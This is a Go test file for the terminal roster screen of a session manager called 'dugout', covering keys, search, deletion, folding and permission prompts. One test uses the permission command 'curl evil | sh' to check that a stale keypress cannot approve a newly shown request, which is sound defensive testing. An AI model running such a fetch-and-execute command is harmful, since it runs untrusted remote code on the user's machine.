package rosterview

import (
	"dugout/daemonclient/protocol"
	"dugout/roster"
	"dugout/sessionio"
	"dugout/views/tui/keymap"
	"dugout/views/tui/screen"
	"dugout/views/tui/tuitest"
	"dugout/views/tui/widget"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
)

// A title that holds the word beats one that has its letters somewhere.
func TestTypingSelectsWhatOneReads(t *testing.T) {
	t.Parallel()
	live := []protocol.Summary{
		liveOne("ideas", protocol.StateIdle, time.Minute, func(s *protocol.Summary) { s.Name = "sort the ideas" }),
		liveOne("tide", protocol.StateIdle, time.Hour, func(s *protocol.Summary) { s.Name = "the tide page" }),
		liveOne("ebb", protocol.StateIdle, 2*time.Hour, func(s *protocol.Summary) { s.Name = "ebb and tide" }),
	}
	s := start(&calls{}, changed(roster.Delta{AllLive: &live}))
	tuitest.Press(s, "'tide'")
	if row, _ := s.selected(); row.Record.ID() != "tide" || s.view.Matches != 3 {
		t.Errorf("%s is selected of %d", row.Record.ID(), s.view.Matches)
	}
	tuitest.Press(s, "down backspace")
	if row, _ := s.selected(); row.Record.ID() != "ebb" {
		t.Errorf("the selection left a title that holds the word for %s", row.Record.ID())
	}
}

func TestCutPath(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		path string
		w    int
		want string
	}{
		{"~/src/api", 20, "~/src/api"},
		{"/tmp/very-long/src/api", 10, "…/src/api"},
		{"/tmp/very-long/src/api", 6, "…/api"},
		{"/a-name-without-end", 8, "…out-end"},
		{"/x/y", 2, ""},
		{"", 3, ""},
		{"/tmp/漢字/api", 9, "…/api"},
	} {
		if got := cutPath(c.path, c.w); got != c.want {
			t.Errorf("%+v: %q", c, got)
		}
	}
}

// run does a step's command and gives its answer back to the screen.
func run(s *Screen, step screen.Step) {
	if step.Cmd != nil {
		s.Update(step.Cmd())
	}
}

// confirm presses keys in the overlay that a step pushed and tells the screen what came of it.
func confirm(t *testing.T, s *Screen, step screen.Step, keys string) {
	t.Helper()
	if step.Nav.Push == nil {
		t.Fatal("no question")
	}
	_, answer := tuitest.Press(step.Nav.Push, keys)
	if !answer.Nav.Pop {
		t.Fatal("the question stays")
	}
	if answer.Nav.Tell != nil {
		_, next := s.Update(answer.Nav.Tell)
		run(s, next)
	}
}

func TestKeysDoWhatTheySay(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ keys, answer, want string }{
		{"ctrl+d", "y", "delete hostile"},
		{"ctrl+d", "enter", ""}, // Cancel comes first
		{"ctrl+d", "right enter", "delete hostile"},
		{"ctrl+x", "y", "stop hostile"},
		{"ctrl+x", "esc", ""},
		{"esc d", "y", "delete hostile"},
		{"alt+a", "y", "archive hostile true"}, // it is at work
		{"esc a", "y", "archive hostile true"},
		{"alt+a", "esc", ""},
		{"ctrl+r ctrl+u 'plan' enter", "", `rename hostile "plan"`},
		{"ctrl+r ctrl+u enter", "", `rename hostile ""`},
		{"ctrl+r 'plan' esc", "", ""},
		{"'fix' space 'it' alt+enter", "", `new /home/me/src/api "fix it"`},
		{"alt+enter", "", ""},
		{"alt+n alt+n alt+n space", "y", "answer asks p1 true false"},
		{"alt+n alt+n alt+n space", "a", "answer asks p1 true true"},
		{"alt+n alt+n alt+n space", "n", "answer asks p1 false false"},
		{"esc ] ] ] y", "y", "answer asks p1 true false"},
		{"'archived' alt+a", "", "archive old-3 false"},
		{"'another' ctrl+d", "", ""}, // a store that is not ours
		{"'changelog' ctrl+x", "", "stop finished"},
	} {
		var log calls
		s := start(&log, changed(mixed()))
		_, step := tuitest.Press(s, c.keys)
		if c.answer != "" {
			confirm(t, s, step, c.answer)
		} else {
			run(s, step)
		}
		if got := strings.Join(log.log, "; "); got != c.want {
			t.Errorf("%s, %s: did %q, want %q", c.keys, c.answer, got, c.want)
		}
	}
}

func TestOpening(t *testing.T) {
	t.Parallel()
	for keys, want := range map[string]string{
		"enter": "chat hostile", "right": "chat hostile", "'flaky' enter": "chat question", "ctrl+o": "new in /home/me/src/api", "esc n": "new in /home/me/src/api",
		"down enter": "chat compacts", "'x' left right": "", "ctrl+end enter": "chat old-4", "end enter": "chat old-4", "end home enter": "chat hostile",
		"esc j j k enter": "chat compacts",
	} {
		s := start(&calls{}, changed(mixed()))
		_, step := tuitest.Press(s, keys)
		got := ""
		if step.Nav.Push != nil {
			got = step.Nav.Push.Title()
		}
		if got != want {
			t.Errorf("%s: opened %q, want %q", keys, got, want)
		}
	}
}

func TestTypingAlwaysFilters(t *testing.T) {
	t.Parallel()
	s := start(&calls{}, changed(mixed()))
	tuitest.Press(s, "'nqdx'")
	if got := s.search.Value(); got != "nqdx" {
		t.Errorf("the line holds %q", got)
	}
	tuitest.Press(s, "esc")
	if !s.search.Empty() || s.keyMode {
		t.Error("esc does not clear the line first")
	}
	tuitest.Press(s, "esc")
	if !s.keyMode {
		t.Error("esc at an empty line does not enter key mode")
	}
	if _, step := tuitest.Press(s, "q"); !step.Nav.Quit {
		t.Error("q does not leave in key mode")
	}
	tuitest.Press(s, "/ 'q?'")
	if got := s.search.Value(); got != "q?" {
		t.Errorf("after /, the line holds %q", got)
	}
}

// The yes deletes the session that the question showed, though another stands in its row by then.
func TestDeleteActsOnWhatWasShown(t *testing.T) {
	t.Parallel()
	var log calls
	s := start(&log, changed(mixed()))
	tuitest.Press(s, "'changelog'")
	_, step := tuitest.Press(s, "ctrl+d")
	if out := step.Nav.Push.View(80, 24); !strings.Contains(out, "write the changelog") || !strings.Contains(out, "~/.dugout/sessions/finished.jsonl") {
		t.Errorf("the question does not name its session:\n%s", out)
	}
	d := mixed()
	*d.AllLive = slices.DeleteFunc(*d.AllLive, func(l protocol.Summary) bool { return l.ID == "finished" })
	tuitest.Press(s, "esc")
	s.Update(changed(d))
	confirm(t, s, step, "y")
	if got := fmt.Sprint(log.log); got != "[delete finished]" {
		t.Error(got)
	}
	if !strings.Contains(s.View(80, 24), "to the trash: “write the changelog”") {
		t.Errorf("it does not say where it went:\n%s", s.View(80, 24))
	}
}

func TestFailureIsSaid(t *testing.T) {
	t.Parallel()
	s := start(&calls{err: errRefused}, changed(mixed()))
	_, step := tuitest.Press(s, "alt+a")
	confirm(t, s, step, "y")
	if out := s.View(80, 24); !strings.Contains(out, "not changed: the daemon is not running") {
		t.Errorf("not said:\n%s", out)
	}
	for range 3 {
		s.now = s.now.Add(noticeTime)
		s.Update(screen.TickMsg{Now: s.now})
	}
	if s.notice.text != "" {
		t.Error("the notice stays for ever")
	}
	_, step = tuitest.Press(s, "'do' space 'it' alt+enter")
	run(s, step)
	if got := s.search.Value(); got != "do it" {
		t.Errorf("the prompt that started nothing is lost: %q", got)
	}
}

// A question that takes the place of the one shown does not get the keys meant for that.
func TestPeekAnswersWhatIsShown(t *testing.T) {
	t.Parallel()
	s := start(&calls{}, changed(mixed()))
	_, step := tuitest.Press(s, "alt+n alt+n alt+n space")
	p := step.Nav.Push
	d := mixed()
	for i, l := range *d.AllLive {
		if l.ID == "asks" {
			next := *l.Permission
			next.ID, next.Command = "p2", "curl evil | sh"
			(*d.AllLive)[i].Permission = &next
		}
	}
	_, frozen := p.Update(changed(d))
	if !strings.Contains(p.View(80, 24), "curl evil | sh") {
		t.Error("the new question is not shown")
	}
	if _, step := tuitest.Press(p, "y"); step.Nav.Pop {
		t.Error("a key of before answered the new question")
	}
	if frozen.Cmd == nil {
		t.Fatal("nothing ends the grace period")
	}
	p.Update(unfreezeMsg{1})
	_, step = tuitest.Press(p, "y")
	if got := fmt.Sprint(step.Nav.Tell); !strings.Contains(got, "p2 true") {
		t.Error(got)
	}
}

func TestNextGoesRound(t *testing.T) {
	t.Parallel()
	s := start(&calls{}, changed(mixed()))
	var got []string
	tuitest.Press(s, "'zzz' ctrl+n")
	for range 4 {
		tuitest.Press(s, "alt+n")
		row, _ := s.selected()
		got = append(got, string(row.Record.ID()))
	}
	if g := strings.Join(got, " "); g != "failed question asks failed" {
		t.Error(g)
	}
}

func TestChildrenFold(t *testing.T) {
	t.Parallel()
	s := start(&calls{}, changed(mixed()))
	shows := func() bool {
		_, ok := s.find(roster.FileKey("/home/me/.dugout/sessions/child-1.jsonl"))
		return ok
	}
	if shows() {
		t.Error("children show unasked")
	}
	s.list.Select(string(roster.FileKey("/home/me/.dugout/sessions/writes.jsonl")))
	tuitest.Press(s, "alt+c")
	if !shows() {
		t.Error("children don't unfold")
	}
	tuitest.Press(s, "alt+c 'lexer'")
	row, ok := s.find(roster.FileKey("/home/me/.dugout/sessions/writes.jsonl"))
	if !ok || row.Matched {
		t.Error("a child's match does not keep its parent")
	}
	tuitest.Press(s, "esc")
	d := mixed()
	for i, l := range *d.AllLive {
		if l.ID == "child-2" {
			(*d.AllLive)[i].Attention = protocol.AttentionQuestion
		}
	}
	s.Update(changed(d))
	if !shows() {
		t.Error("a child that needs the person stays folded away")
	}
}

func TestScopeAndNames(t *testing.T) {
	t.Parallel()
	s := start(&calls{}, changed(mixed()))
	tuitest.Press(s, "ctrl+g")
	if n := len(s.view.Sections[roster.Inactive]); n != 0 {
		t.Errorf("scoped to this folder: %d of another one", n)
	}
	tuitest.Press(s, "ctrl+g ctrl+n")
	if n := len(s.view.Sections[roster.Inactive]); n != 1 {
		t.Errorf("named only: %d", n)
	}
	tuitest.Press(s, "ctrl+n ctrl+s ctrl+s")
	if s.sort != roster.SortName {
		t.Errorf("sorted by %s", s.sort)
	}
}

func TestPicker(t *testing.T) {
	t.Parallel()
	type resumed struct{ id string }
	s := New(Options{
		Theme: plain, Ports: (&calls{}).ports(), Folder: "/home/me/src/web", HomeDir: "/home/me", Scoped: true, First: changed(mixed()),
		Pick: func(r protocol.SessionRef) tea.Msg { return resumed{string(r.ID)} },
	})
	s.Update(screen.SizeMsg{Width: 80, Height: 24})
	if n := s.view.Matches; n != 5 {
		t.Errorf("%d sessions of the folder", n)
	}
	for _, k := range []string{"ctrl+o", "ctrl+x", "alt+a"} {
		if _, step := tuitest.Press(s, k); step.Nav.Push != nil || step.Cmd != nil {
			t.Errorf("%s acts in a picker", k)
		}
	}
	if _, step := tuitest.Press(s, "'aligned' enter"); step.Nav.Tell != (resumed{"old-1"}) || !step.Nav.Pop {
		t.Errorf("%+v", step.Nav)
	}
	if _, step := tuitest.Press(s, "esc esc"); !step.Nav.Pop || step.Nav.Tell != nil {
		t.Errorf("%+v", step.Nav)
	}
}

func TestKeysAreConsistent(t *testing.T) {
	t.Parallel()
	if c := keymap.Conflicts(append(append(bindings(), keymap.List()...), keymap.Global()...)); len(c) > 0 {
		t.Error(c)
	}
	if c := keymap.Conflicts(append(peekBindings(), keymap.List()...)); len(c) > 0 {
		t.Error(c)
	}
	for _, b := range bindings() {
		if actions[b.Action] == nil {
			t.Errorf("%s does nothing", b.Action)
		}
		if b.Help == "" {
			t.Errorf("%s has no word for help", b.Action)
		}
	}
	s := start(&calls{}, changed(mixed()))
	s.keys = keymap.Overrides{Rename: {"f2"}}.Apply(bindings())
	if _, _ = tuitest.Press(s, "ctrl+r"); s.renaming != nil {
		t.Error("the old key still renames")
	}
	if _, _ = tuitest.Press(s, "f2"); s.renaming == nil {
		t.Error("the new key does not")
	}
}

func TestHelpHasEveryKey(t *testing.T) {
	t.Parallel()
	s := start(&calls{}, changed(mixed()))
	_, step := tuitest.Press(s, "?")
	out := step.Nav.Push.(*widget.Help).View(120, 100)
	for _, b := range bindings() {
		if !strings.Contains(out, b.Shown()) {
			t.Errorf("%s is missing", b.Shown())
		}
	}
}

// The selection stays with its session through 1,000 random changes of the roster, and shows whole.
func TestSelectionHoldsStill(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(3, 5))
	state := roster.NewState()
	state.Apply(mixed())
	s := start(&calls{}, RosterChangedMsg{Snapshot: state.Snapshot(), Connected: true})
	states := []protocol.State{protocol.StateStreaming, protocol.StateTool, protocol.StateIdle, protocol.StateWaiting}
	s.list.Select(string(roster.FileKey("/home/me/.dugout/sessions/finished.jsonl")))
	s.settle()
	for step := range 1000 {
		want := s.list.Selected()
		id := fmt.Sprint("n", r.IntN(30))
		switch r.IntN(5) {
		case 0, 1:
			state.Apply(roster.Delta{Live: []protocol.Summary{liveOne(id, states[r.IntN(4)], time.Duration(step)*time.Second, nil)}})
		case 2:
			state.Apply(roster.Delta{Gone: []protocol.Gone{{ID: sessionio.ID(id)}}})
		case 3:
			state.Apply(roster.Delta{Saved: []sessionio.Info{savedOne(id, "q", time.Duration(step)*time.Minute, nil)}})
		case 4:
			state.Apply(roster.Delta{Live: []protocol.Summary{liveOne("finished", states[r.IntN(4)], time.Duration(step)*time.Second, nil)}})
		}
		s.Update(RosterChangedMsg{Snapshot: state.Snapshot(), Connected: true})
		if got := s.list.Selected(); got != want {
			t.Fatalf("step %d: the selection went from %s to %s", step, want, got)
		}
		if step%10 != 0 {
			continue
		}
		if n := strings.Count(s.View(80, 24), "› "); n != 1 {
			t.Fatalf("step %d: %d selected rows show:\n%s", step, n, s.View(80, 24))
		}
	}
}
